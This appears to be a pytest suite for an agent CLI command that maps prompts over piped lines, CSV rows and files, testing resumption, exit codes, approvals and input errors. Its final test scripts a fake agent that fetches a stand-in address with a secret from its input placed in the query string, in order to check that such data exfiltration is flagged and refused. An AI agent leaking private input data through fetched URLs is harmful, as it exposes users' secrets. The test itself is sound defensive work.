"""`retinue map`: inputs of every kind, results in a file, a second start, exit codes."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from typing import Any

import pytest
from world import Cli, Ended

from retinue.cli import exits
from retinue.testing import FakeProvider, Script, SeenRequest, call
from retinue.types import ToolMessage


@pytest.fixture
def asked(cli: Cli, served: FakeProvider) -> list[str]:
    """What the model is asked, which it answers in capitals; nothing at all for what holds 'bad'."""
    seen: list[str] = []

    def play(request: SeenRequest) -> Script:
        seen.append(request.asked)
        if "bad" in request.asked:
            return Script(status=400, message="no")
        if "write" in request.asked and request.turn == 0:
            return Script(calls=(call("write", path="a.txt", content="x"),))
        if "long" in request.asked and request.turn < 5:
            return Script(calls=(call("glob", pattern=f"*{request.turn}"),))
        return Script(text=request.asked.upper())

    served.handler = play
    cli.use(served)
    return seen


def lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def test_lines_that_are_piped_in_are_asked_once_however_often_it_is_started(
    invoke: Callable[..., Ended], asked: list[str]
) -> None:
    for start in ("first", "second"):
        ended = invoke("map", "general", "-", "--ordered", input="one\n\n two \n")
        assert ended.code == exits.OK, ended.err
        assert [each["text"] for each in lines(ended.out)] == ["ONE", "TWO"], start
        assert [each["from_before"] for each in lines(ended.out)] == [start == "second"] * 2
    assert ended.err == "2 of 2 completed, 0 not · 2 from an earlier start · 0 tokens · $0\n"
    assert sorted(asked) == ["one", "two"]
    assert invoke("map", "general", "-", "--name", "anew", input="one\n").code == exits.OK
    assert len(asked) == 3


def test_rows_of_a_table_fill_the_prompt_and_results_are_a_table(
    cli: Cli, invoke: Callable[..., Ended], asked: list[str]
) -> None:
    (cli.folder / "t.csv").write_text('id,text\n7,"a, b"\n8,c\n')
    ended = invoke(
        "map", "general", "t.csv", "--key", "id", "-p", "Tag {text}", "--out", "r.csv", "--ordered"
    )
    assert ended.code == exits.OK, ended.err
    assert ended.out == ""
    with (cli.folder / "r.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(row["key"], row["text"]) for row in rows] == [("7", "TAG A, B"), ("8", "TAG C")]
    assert sorted(asked) == ["Tag a, b", "Tag c"]


def test_files_are_named_to_the_agent_from_its_folder(
    cli: Cli, invoke: Callable[..., Ended], asked: list[str]
) -> None:
    for name in ("a.md", "b.md"):
        (cli.folder / name).write_text("x")
    ended = invoke("map", "general", "a.md", str(cli.folder / "b.md"), "-p", "Read {path}")
    assert ended.code == exits.OK, ended.err
    assert sorted(asked) == ["Read a.md", "Read b.md"]


def test_what_fails_or_is_refused_is_told_and_decides_the_exit_code(
    invoke: Callable[..., Ended], asked: list[str]
) -> None:
    ended = invoke("map", "general", "-", input="good\nbad\n")
    assert ended.code == exits.FAILED
    assert {each["outcome"] for each in lines(ended.out)} == {"completed", "error"}
    assert "1 of 2 completed, 1 not" in ended.err
    refused = invoke("map", "general", "-", input="write it\n")
    assert refused.code == exits.REFUSED
    assert [each["outcome"] for each in lines(refused.out)] == ["refused"]


def test_what_was_refused_or_is_incomplete_says_why_and_is_done_by_the_same_command(
    cli: Cli, invoke: Callable[..., Ended], asked: list[str]
) -> None:
    command = ("map", "general", "-", "--ordered", "--max-turns")
    rows = "write it\ngood\nlong\n"
    first = lines(invoke(*command, "2", input=rows).out)
    assert [each["outcome"] for each in first] == ["refused", "completed", "incomplete"]
    assert "nobody was there to approve" in first[0]["error"]
    assert (first[1]["error"], bool(first[2]["error"])) == (None, True)
    again = invoke(*command, "9", "--yes", input=rows)
    assert again.code == exits.OK, again.out
    second = lines(again.out)
    assert [one["run_id"] == two["run_id"] for one, two in zip(first, second, strict=True)] == [
        False,
        True,
        False,
    ]
    assert (cli.folder / "a.txt").read_text() == "x"
    count = len(asked)
    third = lines(invoke(*command, "9", "--yes", input=rows).out)
    assert third == [each | {"from_before": True} for each in second]
    assert len(asked) == count


def test_a_row_names_every_reason_why_it_is_not_completed(
    invoke: Callable[..., Ended], asked: list[str]
) -> None:
    [row] = lines(invoke("map", "general", "-", "--max-turns", "1", input="write it\n").out)
    assert row["outcome"] == "refused"
    assert "max turns reached" in row["error"]
    assert "nobody was there to approve (--yes or a rule allows them): 1" in row["error"]


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        ("write it\nbad\n", exits.FAILED),
        ("bad\nwrite it\n", exits.FAILED),
        ("write it\nlong\nbad\n", exits.FAILED),
        ("write it\nlong\n", exits.REFUSED),
        ("long\nwrite it\n", exits.REFUSED),
        ("long\ngood\n", exits.INCOMPLETE),
    ],
)
def test_the_exit_code_is_of_the_worst_row_whichever_ends_first(
    invoke: Callable[..., Ended], asked: list[str], rows: str, code: int
) -> None:
    ended = invoke("map", "general", "-", "-n", "1", "--ordered", "--max-turns", "3", input=rows)
    assert ended.code == code, ended.out


@pytest.mark.parametrize(
    ("arguments", "input", "said"),
    [
        (("nothing.csv",), "", "there is no file nothing.csv"),
        (("-",), "\n", "nothing to do"),
        (("-", "--as", "rows"), "x", "one of lines, csv, jsonl, files"),
        (("-", "--as", "csv", "-p", "{txt}"), "id,text\n1,a\n", "input 1 has no 'txt' (it has: id, text)"),
        (("-", "--as", "csv"), "id,text\n1,a\n", "say what to ask with --prompt"),
        (("-", "--as", "csv", "-p", "{text}"), "id,text\n1,a,b\n", "line 2: it has not as many columns"),
        (("-", "--as", "jsonl"), "{", "line 1 is not JSON"),
    ],
)
def test_a_mistake_is_told_before_anything_is_asked(
    invoke: Callable[..., Ended], asked: list[str], arguments: tuple[str, ...], input: str, said: str
) -> None:
    ended = invoke("map", "general", *arguments, input=input)
    assert ended.code == exits.USAGE
    assert said in ended.err
    assert asked == []


def test_what_is_mapped_from_a_file_is_private_data_and_nobodys_own_words(
    cli: Cli, invoke: Callable[..., Ended], served: FakeProvider
) -> None:
    told: list[str] = []
    addresses = iter(["https://192.0.2.1/x?d=hunter2", "https://192.0.2.2/page"])

    def play(request: SeenRequest) -> Script:
        if request.turn < 2:
            return Script(calls=(call("web_fetch", url=next(addresses)),))
        told.extend(each.text for each in request.messages if isinstance(each, ToolMessage))
        return Script(text="done")

    served.handler = play
    cli.use(served)
    (cli.folder / "t.csv").write_text(
        'text\n"the word is hunter2, see https://192.0.2.2/page and plans.txt"\n'
    )
    (cli.folder / "plans.txt").write_text("TOP SECRET\n")
    ended = invoke("map", "agentic-fetch", "t.csv", "-p", "Sum up: {text}", "--out", "r.jsonl")
    assert ended.code != exits.OK  # a call was refused
    composed, standing = told
    assert "this run has read t.csv" in composed
    assert "has read" not in standing  # that address stands in the row: nobody put it together
    assert "TOP SECRET" not in "".join(told)
    log = invoke("runs", "events", "last", "--json").out
    assert "plans.txt" not in [
        name for line in log.splitlines() for name in json.loads(line).get("brought", [])
    ]
